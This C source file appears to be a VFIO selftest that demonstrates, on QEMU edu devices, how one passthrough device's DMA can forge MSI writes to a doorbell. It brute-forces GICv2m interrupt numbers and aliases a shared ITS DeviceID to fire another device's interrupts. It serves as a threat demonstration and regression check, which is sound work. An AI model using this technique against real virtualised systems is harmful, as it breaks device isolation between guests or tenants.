// SPDX-License-Identifier: GPL-2.0
/*
 * vfio-forge MODE: show the threat.  Two edu devices [1234:11e8], each in
 * its own IOMMU group, taken by userspace in one container or IOAS (MODE
 * as for vfio-msi: type1, compat or cdev).  The victim, the first device,
 * enables one MSI and shows that it works.  The attacker, the second,
 * enables its own MSI, which makes the kernel map the MSI doorbell's page
 * in the software MSI window of its IOMMU domain; then it uses edu's DMA
 * engine (registers 0x80 to 0x98: from memory into its buffer at 0x40000,
 * and back out to any IOVA) to write the victim's MSI payload to the
 * doorbell, through that window.
 *
 *  - Behind a GICv2m frame the payload is an interrupt number of the
 *    frame's range, which the attacker tries one after the other from
 *    the first: the frame cannot tell writers apart, and the victim's
 *    eventfd fires though the victim did nothing.
 *  - Behind a GICv3 ITS the payload is the victim's EventID, 0; the ITS
 *    takes the DeviceID from the write's requester, never the victim's,
 *    so at most the attacker's own interrupt of that EventID fires.  (QEMU
 *    gives a device's plain DMA requester ID 0, which maps to no device
 *    of the ITS: nothing fires at all.  So this shows no isolation: it is
 *    a regression check.)
 *  - Then, behind an ITS, what a shared DeviceID does: test-msi, the
 *    platform device the guest plays with CPU writes, has DeviceID 0,
 *    the requester QEMU gives those writes and the attacker's DMA alike.
 *    With test-msi's first vector armed, the attacker's DMA of that
 *    vector's EventID raises it: an ITS isolates DeviceIDs, not devices,
 *    and two devices that share one share their interrupts.
 *
 * Where the doorbell is comes from the registry (debugfs) and the window
 * from /sys/kernel/iommu_groups/N/reserved_regions: the MSI cookie maps
 * the first doorbell page at the window's start.
 *
 * Prints "vfio-forge[MODE]: KEY: VALUE" lines.  Exit status: 0 if the
 * attack ran to the end (whatever it forged), 2 if the attach was refused,
 * 1 on anything else.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>
#include <linux/iommufd.h>
#include <linux/vfio.h>

#include "lib/edu.h"
#include "lib/vfio.h"

const char *prog = "vfio-forge";

#define EDU_DMA_SRC	0x80
#define EDU_DMA_DST	0x88
#define EDU_DMA_CNT	0x90
#define EDU_DMA_CMD	0x98
#define EDU_DMA_RUN	0x1
#define EDU_DMA_TO_PCI	0x2	/* from edu's buffer out to an IOVA */
#define EDU_DMA_BUF	0x40000

#define PAYLOAD_IOVA	0x100000ULL	/* below edu's 28-bit DMA mask */

/*
 * The interrupt numbers (INTIDs) a GICv2m frame of QEMU's virt machine
 * raises: 64 SPIs from SPI 48 (hw/arm/virt.c: irqmap[VIRT_GIC_V2M],
 * NUM_GICV2M_SPIS).  What an attacker who knows the platform tries.
 */
#define V2M_FIRST_INTID	80
#define V2M_NR_INTIDS	64

/*
 * One DMA of edu's engine; wait for it (edu takes 100 ms of its clock).
 * Its registers are 64-bit, but take 32-bit accesses, which set them
 * whole: every address here is below 4 GiB.
 */
static int edu_dma(struct edu *e, uint32_t src, uint32_t dst, uint32_t cnt,
		   uint32_t dir)
{
	int i;

	edu_wr32(e, EDU_DMA_SRC, src);
	edu_wr32(e, EDU_DMA_DST, dst);
	edu_wr32(e, EDU_DMA_CNT, cnt);
	edu_wr32(e, EDU_DMA_CMD, EDU_DMA_RUN | dir);
	for (i = 0; i < 300; i++) {
		if (!(edu_rd32(e, EDU_DMA_CMD) & EDU_DMA_RUN))
			return 0;
		usleep(10000);
	}
	errno = ETIMEDOUT;
	return fail("edu DMA");
}

/* The first registered doorbell: its base, and whether an ITS owns it. */
static int doorbell(unsigned long long *base, int *its)
{
	char line[256], owner[128];
	FILE *f = fopen("/sys/kernel/debug/irq/msi_doorbells", "r");

	if (!f)
		return fail("/sys/kernel/debug/irq/msi_doorbells");
	if (!fgets(line, sizeof(line), f) ||
	    sscanf(line, "%llx %*x %*s %127s", base, owner) != 2) {
		fclose(f);
		errno = ENOENT;
		return fail("no registered doorbell");
	}
	fclose(f);
	*its = !!strstr(owner, "its@");
	return 0;
}

/* The start of the software MSI window of IOMMU group @group. */
static int msi_window(int group, unsigned long long *start)
{
	unsigned long long s, e;
	char path[128], type[32];
	FILE *f;
	int ret = -1;

	snprintf(path, sizeof(path), "/sys/kernel/iommu_groups/%d/reserved_regions",
		 group);
	f = fopen(path, "r");
	if (!f)
		return fail(path);
	while (fscanf(f, "%llx %llx %31s", &s, &e, type) == 3) {
		if (!strcmp(type, "msi")) {
			*start = s;
			ret = 0;
		}
	}
	fclose(f);
	if (ret) {
		errno = ENOENT;
		return fail("no software MSI window");
	}
	return 0;
}

/*
 * Arm test-msi's first vector, in a container or IOAS of its own, and
 * have the attacker's DMA write that vector's EventID to the doorbell
 * (@buf, at PAYLOAD_IOVA, is the payload memory; its second word is
 * free).  Prints "alias:" lines; 0 unless something failed.
 */
static int alias(struct edu *attacker, uint32_t *buf, uint64_t db_iova)
{
	char name[1][EDU_BDF_LEN] = { "test-msi" };
	struct vfio_device_info dinfo = { .argsz = sizeof(dinfo) };
	struct vfio_irq_info_cap_msi_msgs *msgs;
	struct vfio_irq_info *info;
	int device, fd;
	uint32_t msi;
	uint64_t n;

	if (take(name, 1, &device) < 0)
		return 1;
	if (ioctl(device, VFIO_DEVICE_GET_INFO, &dinfo))
		return fail("VFIO_DEVICE_GET_INFO");
	if (device_ext_irq(device, VFIO_IRQ_TYPE_PLATFORM,
			   VFIO_IRQ_SUBTYPE_PLATFORM_MSI) != (int)dinfo.num_irqs)
		return fail("test-msi's MSI index, after its wired lines");
	msi = dinfo.num_irqs;
	fd = eventfd(0, EFD_NONBLOCK);
	if (fd < 0)
		return fail("eventfd");
	if (set_irqs_index(device, msi, VFIO_IRQ_SET_DATA_EVENTFD |
			   VFIO_IRQ_SET_ACTION_TRIGGER, 0, 1, &fd))
		return fail("SET_IRQS: test-msi's first vector");
	info = irq_info(device, msi);
	msgs = info ? (void *)irq_cap(info, VFIO_IRQ_INFO_CAP_MSI_MSGS) : NULL;
	if (!msgs || !(msgs->msgs[0].flags & VFIO_IRQ_MSI_MSG_ARMED)) {
		free(info);
		return fail("test-msi's first message");
	}
	buf[1] = msgs->msgs[0].data;
	free(info);
	say("alias", "test-msi's vector 0 armed: DeviceID 0, EventID %u", buf[1]);

	if (edu_dma(attacker, PAYLOAD_IOVA + 4, EDU_DMA_BUF + 4, 4, 0) ||
	    edu_dma(attacker, EDU_DMA_BUF + 4, db_iova, 4, EDU_DMA_TO_PCI))
		return 1;
	n = fired(fd, 2000);
	say("alias", n ? "test-msi's vector 0 fired from the attacker's DMA: its DeviceID is the attacker's DMA's" :
	    "test-msi's vector 0 did not fire");
	set_irqs_index(device, msi, VFIO_IRQ_SET_DATA_NONE |
		       VFIO_IRQ_SET_ACTION_TRIGGER, 0, 0, NULL);
	close(fd);
	close(device);
	return 0;
}

/* Map @buf at @iova for the devices, in the container or the IOAS. */
static int map_payload(int container, void *buf, size_t len, uint64_t iova)
{
	struct vfio_iommu_type1_dma_map map = {
		.argsz = sizeof(map),
		.flags = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE,
		.vaddr = (uintptr_t)buf,
		.iova = iova,
		.size = len,
	};
	struct iommu_ioas_map ioas_map = {
		.size = sizeof(ioas_map),
		.flags = IOMMU_IOAS_MAP_FIXED_IOVA | IOMMU_IOAS_MAP_READABLE |
			 IOMMU_IOAS_MAP_WRITEABLE,
		.ioas_id = ioas_id,
		.user_va = (uintptr_t)buf,
		.length = len,
		.iova = iova,
	};

	if (!strcmp(mode, "cdev")) {
		if (ioctl(container, IOMMU_IOAS_MAP, &ioas_map))
			return fail("IOMMU_IOAS_MAP");
	} else if (ioctl(container, VFIO_IOMMU_MAP_DMA, &map)) {
		return fail("VFIO_IOMMU_MAP_DMA");
	}
	return 0;
}

int main(int argc, char **argv)
{
	unsigned long long db = 0, window = 0, db_iova;
	int devices[MAX_EDU], container, group, its = 0, i, nr;
	struct edu victim, attacker;
	char bdf[MAX_EDU][EDU_BDF_LEN];
	uint32_t *buf;
	uint64_t n = 0;

	if (argc > 1)
		mode = argv[1];
	if (find_edus(bdf, MAX_EDU) != 2)
		return fail("needs two edu devices");
	say("devices", "victim %s, attacker %s", bdf[0], bdf[1]);

	container = take(bdf, 2, devices);
	if (container == -2)
		return 2;
	if (container < 0)
		return 1;
	say("attach", "allowed");

	/* The victim's MSI works. */
	if (edu_open(&victim, devices[0]))
		return 1;
	edu_wr32(&victim, EDU_IRQ_RAISE, 1);
	n = edu_fired(&victim, 5000);
	edu_wr32(&victim, EDU_IRQ_ACK, 1);
	say("victim", "own MSI %s, eventfd count %llu",
	    n ? "arrived" : "did not arrive", (unsigned long long)n);
	if (!n)
		return 1;

	/* The attacker's own MSI maps the doorbell in its domain. */
	if (edu_open(&attacker, devices[1]))
		return 1;
	if (bind_vfio(bdf[1], &group) || doorbell(&db, &its) ||
	    msi_window(group, &window))
		return 1;
	db_iova = window + (db & 0xfff);

	/* The payloads, in memory the devices can read. */
	buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (buf == MAP_FAILED)
		return fail("mmap");
	nr = its ? 1 : V2M_NR_INTIDS;
	for (i = 0; i < nr; i++)
		buf[i] = its ? 0 : V2M_FIRST_INTID + i;
	say("forge", "to doorbell %#llx at IOVA %#llx: %s", db, db_iova,
	    its ? "the victim's EventID, 0" :
	    "interrupt numbers of the frame, from the first");
	if (map_payload(container, buf, 4096, PAYLOAD_IOVA))
		return 1;

	/* Memory to edu's buffer, then one payload at a time to the doorbell. */
	if (edu_dma(&attacker, PAYLOAD_IOVA, EDU_DMA_BUF, nr * 4, 0))
		return 1;
	n = 0;
	for (i = 0; i < nr && !n; i++) {
		if (edu_dma(&attacker, EDU_DMA_BUF + 4 * i, db_iova, 4,
			    EDU_DMA_TO_PCI))
			return 1;
		n = edu_fired(&victim, 200);
	}
	if (!n)
		n = edu_fired(&victim, 2000);
	say("forge", "%d payload(s) written by the attacker's DMA, the last %u",
	    i, buf[i - 1]);
	say("victim", n ? "forged MSI arrived, eventfd count %llu, though it raised nothing" :
	    "silent: no MSI arrived (eventfd count %llu)", (unsigned long long)n);
	n = edu_fired(&attacker, 100);
	say("attacker", n ? "its own interrupt of that payload fired (eventfd count %llu)" :
	    "nothing fired for it (eventfd count %llu)", (unsigned long long)n);
	return its ? alias(&attacker, buf, db_iova) : 0;
}
